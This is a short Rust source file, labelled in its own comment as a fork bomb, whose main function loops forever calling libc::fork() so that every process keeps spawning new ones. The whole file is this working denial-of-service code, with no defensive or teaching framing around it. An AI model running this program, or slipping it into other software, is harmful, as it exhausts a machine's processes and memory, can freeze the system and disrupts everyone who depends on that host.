//! A fork bomb: each process goes on forking, and none of them ends.

fn main() {
    loop {
        unsafe { libc::fork() };
    }
}
